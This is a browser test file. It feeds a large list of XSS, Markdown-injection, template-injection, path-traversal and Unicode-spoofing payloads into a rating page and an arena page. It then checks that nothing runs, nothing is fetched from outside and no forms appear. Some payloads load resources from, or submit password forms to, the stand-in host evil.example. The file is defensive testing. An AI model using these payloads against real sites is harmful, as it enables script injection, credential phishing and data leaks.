"""What a model, a person or a run's name could try, in Chromium: nothing runs, is fetched, or can be filled in."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import arena_server
import explored
import pytest
import rated_page
from playwright.sync_api import Browser, Page
from rated_page import opened

from prefloop.compare.records import Answer, Contestant, Question
from prefloop.records import Answers, Message, Prompt, Response

pytestmark = pytest.mark.skipif(not rated_page.CHROMIUM.exists(), reason="no /usr/bin/chromium")

PIXEL = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(16)).decode()
SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()
CORPUS = (
    # script
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "</div></body><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=//evil.example/p.png>", "<img/src='x'/onerror='alert`1`'>",
    "<body onload=alert(1)>", "<div onmouseover=alert(1) style='position:fixed;inset:0'>over</div>",
    "<a href='javascript:alert(1)' autofocus onfocus=alert(1)>x</a>", "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>", "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/a.mp3 autoplay onerror=alert(1)>", "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<object data='//evil.example/x'></object>",
    "<embed src='//evil.example/x'>", "<applet code=x></applet>", "<frameset onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e", "<ſcript>alert(1)</ſcript>", "<img src=x\x00 onerror=alert(1)>",
    # SVG, MathML, styles
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href='//evil.example/x.svg#x'/></svg>",
    "<svg><foreignObject><input name=password></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{display:none}@import '//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<p style='background:url(//evil.example/p.png)'>x</p>", "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=prefetch href=//evil.example/>",
    # forms
    "<form action=//evil.example/><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea>type here</textarea>", "<select><option>x</select>", "<button onclick=alert(1)>Submit</button>",
    "<div contenteditable>x</div>", "<dialog open>Your session ended</dialog>", "- [ ] a box\n- [x] another",
    "<keygen>", "<isindex action=//evil.example/>",
    # Markdown
    "![](http://evil.example/p.png)", "![x](//evil.example/p.png 'x')", "![x][r]\n\n[r]: http://evil.example/p.png",
    f"![x](data:image/svg+xml;base64,{SVG})",
    f"![x](data:image/png;base64,{PIXEL}\" onerror=\"alert(1))",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>", "<http://evil.example/>", "[![x](http://evil.example/a.png)](http://evil.example/)",
    "[x](vbscript:msgbox(1))", "[x](http://evil.example/\"onmouseover=alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    "`</code><img src=x onerror=alert(1)>`", "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "1. <iframe src=//evil.example/>\n2. x", "> <object data=//evil.example/x>",
    "[x]: http://evil.example/ 'hidden text'",
    "![p](/api/picture/../../config)", "![p](/api/picture/0)", "![p](..%2f..%2fetc/passwd)", "![p](file:///etc/passwd)",
    # templates and text that plays tricks
    "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "{{#each this}}{{this}}{{/each}}", "<%= alert(1) %>",
    "{% import os %}", "#{alert(1)}", "\u202ealert(1)\u202c gnp.exe",
    "\u2066left\u2069 \u200f\u200b\ufeff",
    "\x1b[31mred\x1b[0m \x07 \x08",
    "\U000e0041\U000e0042 tags", "Z" + "\u0301" * 200, "x" * 3000, "--></style></script>", "';alert(1)//\";alert(1)//",
    "javascript:alert(1)", "\U0001f600 fine", "I am canary-run.",
)
# What may stand in a text, whoever wrote it. Anything else is a way in.
STRANGE = """() => [...document.querySelectorAll('.pl-text *, .pl-rater *, .pl-title *, .ar-name *, .ar-column *')]
  .filter((one) => !/^(P|BR|HR|H[3-6]|EM|STRONG|S|CODE|PRE|UL|OL|LI|BLOCKQUOTE|TABLE|THEAD|TBODY|TR|TH|TD|SPAN|DIV|B)$/
    .test(one.tagName) || [...one.attributes].some(({name}) => !/^(class|dir|start)$/.test(name)))
  .map((one) => one.outerHTML)"""
PLACE = "n => document.querySelector('.ar-place').textContent.startsWith(`${n} of`)"
TITLES = {"campaign.title": "title", "feedback.rater": "ann"}
FIELDS = "document.querySelectorAll('form, input, textarea, select, iframe, object, embed, script[src]').length"


def rows() -> list[Answers]:
    """Each string as an answer, as a message, and in the name of the run that wrote an answer, eight at a time.

    In the name its letters stand apart: a run's name is blacked out of the answers.
    """
    return [Answers(Prompt((*(Message("assistant", text) for text in eight), Message("user", f"{at} {eight[0]}"))),
                    tuple(Response(text, f"canary-policy {' '.join(text)} canary") for text in eight))
            for at in range(0, len(CORPUS), 8) if (eight := CORPUS[at : at + 8]) and len(eight) > 1]


def whole(text: str) -> str:
    """All strings in one, for where a name stands."""
    return text + " ".join(one.replace("\x00", "") for one in CORPUS)


def fields(page: Page) -> int:
    return page.evaluate(FIELDS)


def test_the_corpus_is_large() -> None:
    assert len(set(CORPUS)) >= 60


def test_prompts_answers_and_names_of_raters_and_runs(browser: Browser, tmp_path: Path) -> None:
    plain = [rated_page.item("a question", [f"answer {n}" for n in range(8)])]
    harmless = rated_page.serve(tmp_path, f"campaign.answers={rated_page.written(tmp_path / 'plain.jsonl', plain)}")
    page, _ = opened(browser, harmless.url)
    own = fields(page)
    harmless.stop()

    folder = tmp_path / "hostile"
    folder.mkdir()
    served = rated_page.serve(folder, f"campaign.answers={rated_page.written(folder / 'answers.jsonl', rows())}",
                              "campaign.repeats=0", *(f"{key}={json.dumps(whole(name), ensure_ascii=False)}"
                                                      for key, name in TITLES.items()))
    try:
        bodies: list[str] = []
        page, seen = opened(browser, served.url)
        page.on("response", lambda reply: bodies.append(reply.text()) if "/api/next" in reply.url else None)
        shown: set[str] = set()
        while page.locator(".pl-done").is_hidden():
            assert page.evaluate(STRANGE) == []
            assert fields(page) == own
            assert page.evaluate("document.documentElement.scrollWidth") <= 1280
            page.keyboard.press("q")
            shown.update(one.text_content() or "" for one in page.locator(".pl-card .pl-plaintext").all())
            asked = rated_page.question(page)
            page.keyboard.press("n")
            rated_page.went_on(page, asked)
        assert [one for one in CORPUS if one.isprintable() and one.isascii() and one not in shown] == []
        assert "canary-policy" not in page.content() + "".join(bodies)
        assert page.locator(".pl-rater").text_content() == whole("ann")
        page.keyboard.press("m")
        assert seen.dialogs == seen.complaints == []
        assert seen.hosts() == {served.url.split("/")[2]}
    finally:
        served.stop()


def test_names_of_runs_in_the_arena(browser: Browser, tmp_path: Path) -> None:
    names = (whole("first"), whole("second"))
    answers = explored.written(tmp_path / "compared", [Question(Prompt((Message("user", f"{at} {text}"),)))
                                                       for at, text in enumerate(CORPUS)],
                               [Contestant(name, f"key of {name}", tuple((Answer(f"{name[:6]} {text}", 3, True),)
                                                                         for text in CORPUS)) for name in names])
    served = arena_server.serve(tmp_path / "arena", f"arena.answers={answers}")
    try:
        page, seen = opened(browser, served.url, wait=".ar-column")
        own = fields(page)
        for at in range(len(CORPUS)):
            page.wait_for_function(PLACE, arg=at + 1)
            assert page.evaluate(STRANGE) == []
            page.keyboard.press("j")
        page.keyboard.press("v")
        page.wait_for_timeout(500)
        assert fields(page) == own
        assert seen.dialogs == seen.complaints == []
        assert seen.hosts() == {served.url.split("/")[2]}
    finally:
        served.stop()
